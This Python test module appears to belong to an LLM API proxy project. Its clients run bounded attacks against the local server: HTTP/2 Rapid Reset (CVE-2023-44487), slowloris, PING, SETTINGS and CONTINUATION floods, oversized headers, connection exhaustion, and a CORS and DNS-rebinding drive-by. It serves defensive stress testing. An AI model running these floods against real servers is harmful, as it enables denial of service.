"""The hostile clients of `make attack` (tests/attack.py runs them and measures the server).

Each attack is a coroutine `attack(target) -> Outcome`: it talks raw bytes to 127.0.0.1 (h11/h2
state machines only build frames), is bounded in count, bytes and seconds, and reports what
the server did (statuses, resets, closes) without judging it.
"""

from __future__ import annotations

import asyncio
import json
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

MB = 1024 * 1024
UPLOAD = 30 * MB
PIECE = 64 * 1024
CHAT = "/v1/chat/completions"
PING_FRAME = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"\x01" * 8  # RFC 9113 §6.7
SETTINGS_FRAME = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # an empty SETTINGS (§6.5)


@dataclass
class Target:
    """Where to attack and what a request needs."""
    port: int
    key: str
    script_reply: object = None  # async callable(dict): scripts the fake's next answer
    fake_stats: object = None    # async callable() -> dict of the fake's counters


@dataclass
class Outcome:
    tried: int
    note: str


def chat_body(words: int = 4, stream: bool = False) -> bytes:
    return json.dumps({"model": "Meta-Llama-3.1-8B-Instruct", "stream": stream,
                       "messages": [{"role": "user", "content": " ".join(["w"] * words)}]}).encode()


async def connect(port: int):
    return await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)


def close(writer) -> None:
    try:
        writer.transport.abort()
    except Exception:
        pass


async def status_line(reader, timeout: float) -> str:
    """The status code of the next HTTP/1.1 answer, or why there is none."""
    try:
        line = await asyncio.wait_for(reader.readline(), timeout)
    except asyncio.TimeoutError:
        return "no answer"
    except (ConnectionError, OSError):
        return "reset"
    return line.split()[1].decode() if line.startswith(b"HTTP/") else "closed"


def counts(items) -> str:
    """'401 x3, closed x1' for a list of results."""
    tally: dict = {}
    for item in items:
        tally[item] = tally.get(item, 0) + 1
    return ", ".join(f"{k} x{v}" for k, v in tally.items())


class H2Client:
    """A minimal HTTP/2 client over an asyncio socket that can also misbehave."""

    def __init__(self, reader, writer, settings: dict | None = None) -> None:
        self.reader, self.writer = reader, writer
        config = h2.config.H2Configuration(client_side=True, header_encoding=None,
                                           validate_outbound_headers=False,
                                           normalize_outbound_headers=False,
                                           validate_inbound_headers=False)
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.closed = False
        self.history: list = []  # every event received, in order
        self.flush()

    @classmethod
    async def open(cls, port: int, settings: dict | None = None) -> H2Client:
        return cls(*await connect(port), settings)

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.closed:
            self.writer.write(data)

    def headers(self, method: str | bytes, path: str, key: str | None, end: bool,
                extra=()) -> int:
        stream_id = self.conn.get_next_available_stream_id()
        fields = [(b":method", method if isinstance(method, bytes) else method.encode()),
                  (b":path", path.encode()), (b":scheme", b"http"), (b":authority", b"127.0.0.1"),
                  *([(b"authorization", f"Bearer {key}".encode())] if key else []), *extra]
        self.conn.send_headers(stream_id, fields, end_stream=end)
        return stream_id

    async def pump(self, timeout: float, until=None, ack: set | None = None) -> None:
        """Read events for up to `timeout` seconds, until `until(self)` holds or the server closes.

        Data of the streams in `ack` is acknowledged (window granted back); other data is not.
        """
        deadline = time.monotonic() + timeout
        while not self.closed and not (until and until(self)) and (left := deadline - time.monotonic()) > 0:
            try:
                data = await asyncio.wait_for(self.reader.read(65536), left)
            except asyncio.TimeoutError:
                break
            except (ConnectionError, OSError):
                data = b""
            if not data:
                self.closed = True
                break
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            for event in events:
                if isinstance(event, h2.events.DataReceived) and ack is not None and event.stream_id in ack:
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.closed = True
            self.history += events
            self.flush()

    def fate(self, stream_id: int) -> str:
        """What happened to one stream: its :status, RST_STREAM, GOAWAY, a close, or nothing yet."""
        for event in self.history:
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                return dict(event.headers).get(b":status", b"?").decode()
            if isinstance(event, h2.events.StreamReset) and event.stream_id == stream_id:
                return f"RST({_name(event.error_code)})"
            if isinstance(event, h2.events.ConnectionTerminated):
                return f"GOAWAY({_name(event.error_code)})"
        return "closed without GOAWAY" if self.closed else "nothing"

    def ended(self, stream_id: int) -> bool:
        return any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)) and e.stream_id == stream_id
                   for e in self.history)

    async def send_bodies(self, stream_ids: list[int], size: int, seconds: float) -> int:
        """Send up to `size` bytes of DATA on each stream as flow control allows, for at most
        `seconds`, never ending them; the bytes sent in all."""
        sent = dict.fromkeys(stream_ids, 0)
        deadline = time.monotonic() + seconds
        piece = b"x" * PIECE
        while not self.closed and time.monotonic() < deadline:
            moved = False
            for stream_id in stream_ids:
                try:
                    room = min(self.conn.local_flow_control_window(stream_id),
                               self.conn.max_outbound_frame_size, size - sent[stream_id])
                except h2.exceptions.ProtocolError:
                    continue  # the stream was reset or closed
                if room > 0:
                    try:
                        self.conn.send_data(stream_id, piece[:room])
                    except h2.exceptions.ProtocolError:
                        continue  # the server ended or reset the stream
                    sent[stream_id] += room
                    moved = True
            self.flush()
            if not await drained(self.writer, deadline):
                break
            if all(v >= size for v in sent.values()):
                break
            # Take in what the server sent (WINDOW_UPDATE, answers, resets), waiting only when blocked.
            await self.pump(0.001 if moved else min(0.2, max(deadline - time.monotonic(), 0.001)))
        return sum(sent.values())


def _name(code) -> str:
    return getattr(code, "name", str(code))


async def drained(writer, deadline: float) -> bool:
    """Wait for the socket buffer to drain, until `deadline`; False if it did not (or the socket broke)."""
    try:
        await asyncio.wait_for(writer.drain(), max(deadline - time.monotonic(), 0.01))
        return True
    except (asyncio.TimeoutError, ConnectionError, OSError):
        return False


# --- the attacks ---------------------------------------------------------------------------

async def unauthenticated_upload_h1(target: Target) -> Outcome:
    """4 connections each declare 30 MB with a wrong key and send as fast as the server takes it."""
    async def one() -> tuple[str, int]:
        reader, writer = await connect(target.port)
        writer.write(f"POST {CHAT} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer wrong-key\r\n"
                     f"content-type: application/json\r\ncontent-length: {UPLOAD}\r\n\r\n".encode())
        answer = asyncio.ensure_future(status_line(reader, 4.0))
        sent, deadline, piece = 0, time.monotonic() + 4.0, b" " * PIECE
        while sent < UPLOAD and not answer.done() and time.monotonic() < deadline:
            writer.write(piece)
            sent += PIECE
            if not await drained(writer, deadline):
                break
        status = await answer
        close(writer)
        return status, sent

    results = await asyncio.gather(*(one() for _ in range(4)))
    most = max(sent for _, sent in results) / MB
    return Outcome(4, f"{counts(s for s, _ in results)}; at most {most:.1f} MB sent before it")


async def unauthenticated_upload_h2(target: Target) -> Outcome:
    """4 connections each open one stream declaring 30 MB with a wrong key and push DATA."""
    async def one() -> tuple[str, int]:
        client = await H2Client.open(target.port)
        stream_id = client.headers("POST", CHAT, "wrong-key", end=False,
                                   extra=[(b"content-length", str(UPLOAD).encode())])
        client.flush()
        sent = await client.send_bodies([stream_id], UPLOAD, 4.0)
        await client.pump(1.0, until=lambda c: c.fate(stream_id) != "nothing")
        close(client.writer)
        return client.fate(stream_id), sent

    results = await asyncio.gather(*(one() for _ in range(4)))
    most = max(sent for _, sent in results) / MB
    return Outcome(4, f"{counts(s for s, _ in results)}; at most {most:.1f} MB of DATA let in")


async def unfinished_h2_uploads(target: Target) -> Outcome:
    """8 streams on one connection, valid key, each declaring 30 MB and never ending its body."""
    client = await H2Client.open(target.port)
    streams = [client.headers("POST", CHAT, target.key, end=False,
                              extra=[(b"content-length", str(UPLOAD).encode())]) for _ in range(8)]
    client.flush()
    sent = await client.send_bodies(streams, UPLOAD, 5.0)
    await client.pump(0.5)
    close(client.writer)
    answers = counts(client.fate(s) for s in streams)
    return Outcome(8, f"{sent / MB:.0f} MB of DATA let in over 5 s; answers: {answers}")


async def rapid_reset(target: Target) -> Outcome:
    """40 streams of HEADERS + DATA + RST_STREAM in one write, with a valid key (CVE-2023-44487)."""
    client = await H2Client.open(target.port)
    body = chat_body()
    for _ in range(40):
        stream_id = client.headers("POST", CHAT, target.key, end=False,
                                   extra=[(b"content-type", b"application/json")])
        client.conn.send_data(stream_id, body, end_stream=True)
        client.conn.reset_stream(stream_id)
    client.flush()
    await client.pump(1.5, ack=set())
    close(client.writer)
    goaway = [e for e in client.history if isinstance(e, h2.events.ConnectionTerminated)]
    fate = f"GOAWAY({_name(goaway[0].error_code)})" if goaway else \
        ("closed without GOAWAY" if client.closed else "connection kept")
    return Outcome(40, fate)


async def slowloris(target: Target) -> Outcome:
    """5 connections each send a request head one byte every 1.5 s, for up to 9 s."""
    head = b"GET /info HTTP/1.1\r\nhost: x\r\nx-slow: " + b"a" * 64

    async def one() -> float | None:
        reader, writer = await connect(target.port)
        start = time.monotonic()
        try:
            for byte in head:
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(4096), 1.5)
                except asyncio.TimeoutError:
                    data = None
                if data is not None:  # an answer (408) or EOF: the server gave up on us
                    return time.monotonic() - start
                if time.monotonic() - start > 9.0:
                    return None
        except (ConnectionError, OSError):
            return time.monotonic() - start
        finally:
            close(writer)
        return None

    closed = [t for t in await asyncio.gather(*(one() for _ in range(5))) if t is not None]
    if not closed:
        return Outcome(5, "0/5 closed: all still open after 9 s")
    return Outcome(5, f"{len(closed)}/5 closed by the server after {max(closed):.1f} s at most")


async def huge_header(target: Target) -> Outcome:
    """A 100 KB header line over HTTP/1.1 and a 100 KB header value over HTTP/2."""
    reader, writer = await connect(target.port)
    writer.write(b"GET /info HTTP/1.1\r\nhost: x\r\nx-big: " + b"a" * 100_000 + b"\r\n\r\n")
    h1 = await status_line(reader, 3.0)
    close(writer)
    client = await H2Client.open(target.port)
    stream_id = client.headers("GET", "/info", None, end=True, extra=[(b"x-big", b"a" * 100_000)])
    client.flush()
    await client.pump(3.0, until=lambda c: c.fate(stream_id) != "nothing")
    h2_fate = client.fate(stream_id)
    close(client.writer)
    return Outcome(2, f"h1: {h1}; h2: {h2_fate}")


async def _frame_flood(target: Target, frame: bytes, label: str) -> Outcome:
    """Write one kind of control frame as fast as the server reads it, never reading, 4 s or 40 MB."""
    client = await H2Client.open(target.port)
    batch = frame * 2000
    sent, deadline = 0, time.monotonic() + 4.0
    while sent < 40 * MB and time.monotonic() < deadline:
        client.writer.write(batch)
        sent += len(batch)
        if not await drained(client.writer, deadline):
            break
    unsent = client.writer.transport.get_write_buffer_size()
    await client.pump(1.0, ack=set())
    close(client.writer)
    frames = (sent - unsent) // len(frame)
    fate = "server closed the connection" if client.closed else "connection kept"
    return Outcome(frames, f"{(sent - unsent) / MB:.1f} MB of {label} taken in 4 s; {fate}")


async def ping_flood(target: Target) -> Outcome:
    return await _frame_flood(target, PING_FRAME, "PING")


async def settings_flood(target: Target) -> Outcome:
    return await _frame_flood(target, SETTINGS_FRAME, "SETTINGS")


async def non_ascii_method(target: Target) -> Outcome:
    """3 connections each send a HEADERS frame whose :method holds non-ASCII bytes."""
    fates = []
    for _ in range(3):
        client = await H2Client.open(target.port)
        stream_id = client.headers(b"G\xc3\x8bT", "/info", None, end=True)
        client.flush()
        await client.pump(1.0, until=lambda c: c.fate(stream_id) != "nothing")
        fates.append(client.fate(stream_id))
        close(client.writer)
    return Outcome(3, counts(fates))


async def continuation_flood(target: Target) -> Outcome:
    """20 connections each open a header block (HEADERS, then 62 CONTINUATION frames of 16 KiB),
    never ended: h2 would keep up to 1 MiB of each undecoded."""
    from hyperframe.frame import ContinuationFrame, HeadersFrame
    block = HeadersFrame(1, data=b"\x82", flags=["END_STREAM"]).serialize() + b"".join(
        ContinuationFrame(1, data=b"\x00" * 16384).serialize() for _ in range(62))
    clients = []
    for _ in range(20):
        client = await H2Client.open(target.port)
        client.flush()
        client.writer.write(block)
        clients.append(client)
    for client in clients:
        await client.pump(1.0, until=lambda c: c.closed)
    closed = sum(client.closed for client in clients)
    for client in clients:
        close(client.writer)
    return Outcome(20, f"{closed}/20 closed by the server")


async def starved_stream(target: Target) -> Outcome:
    """One streamed answer granted no window beside normal requests on the same connection."""
    client = await H2Client.open(target.port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    starved = client.headers("POST", CHAT, target.key, end=False)
    client.conn.send_data(starved, chat_body(words=3000, stream=True), end_stream=True)
    client.flush()
    await client.pump(0.5)
    done = 0
    for _ in range(2):  # neighbours, each granted what it needs
        neighbour = client.headers("GET", "/info", None, end=True)
        client.conn.increment_flow_control_window(1 << 20, stream_id=neighbour)
        client.conn.increment_flow_control_window(1 << 20)
        client.flush()
        await client.pump(2.0, until=lambda c: c.ended(neighbour), ack={neighbour})
        done += any(isinstance(e, h2.events.StreamEnded) and e.stream_id == neighbour for e in client.history)
    close(client.writer)
    return Outcome(3, f"neighbours completed {done}/2; connection "
                      f"{'closed' if client.closed else 'kept'}; starved stream {client.fate(starved)}")


async def pipelined_departure(target: Target) -> Outcome:
    """A streamed request, a request pipelined after its first event, then the client leaves (FIN)."""
    await target.script_reply({"stall_after": 1})
    before = (await target.fake_stats())["open_streams"]
    reader, writer = await connect(target.port)
    body = chat_body(stream=True)
    writer.write(f"POST {CHAT} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {target.key}\r\n"
                 f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body)
    try:
        await asyncio.wait_for(reader.readuntil(b"data: "), 5)
    except (asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError):
        close(writer)
        return Outcome(1, "no first event arrived")
    writer.write(b"GET /info HTTP/1.1\r\nhost: x\r\n\r\n")  # pipelined while the answer runs
    await writer.drain()
    await asyncio.sleep(0.2)
    writer.close()  # an orderly close (FIN), as a client that is done sends
    left = time.monotonic()
    while time.monotonic() - left < 3.0:
        if (await target.fake_stats())["open_streams"] <= before:
            return Outcome(1, f"upstream closed {time.monotonic() - left:.2f} s after the departure")
        await asyncio.sleep(0.05)
    return Outcome(1, "upstream still open 3 s after the departure")


async def many_connections(target: Target, count: int) -> Outcome:
    """`count` idle connections at once (above MAX_CONNECTIONS), held 2 s."""
    opened = await asyncio.gather(*(connect(target.port) for _ in range(count)), return_exceptions=True)
    pairs = [p for p in opened if not isinstance(p, BaseException)]
    await asyncio.sleep(0.5)

    async def closed(reader) -> bool:
        try:
            return await asyncio.wait_for(reader.read(1), 0.05) == b""
        except asyncio.TimeoutError:
            return False
        except (ConnectionError, OSError):
            return True

    shut = sum(await asyncio.gather(*(closed(r) for r, _ in pairs)))
    await asyncio.sleep(1.5)
    for _, writer in pairs:
        close(writer)
    refused = count - len(pairs)
    return Outcome(count, f"{shut + refused}/{count} closed or refused at once")


async def cors_drive_by(target: Target) -> Outcome:
    """What a foreign page's script can make a browser send: text/plain POSTs, one via a rebound Host."""
    results = []
    body = chat_body()
    for host in ["127.0.0.1"] * 9 + ["evil.example"]:
        reader, writer = await connect(target.port)
        origin = f"http://{host}:{target.port}" if host != "127.0.0.1" else "https://evil.example"
        writer.write(f"POST {CHAT} HTTP/1.1\r\nhost: {host}:{target.port}\r\norigin: {origin}\r\n"
                     f"content-type: text/plain\r\ncontent-length: {len(body)}\r\n\r\n".encode() + body)
        results.append(await status_line(reader, 3.0))
        close(writer)
    return Outcome(len(results), counts(results))
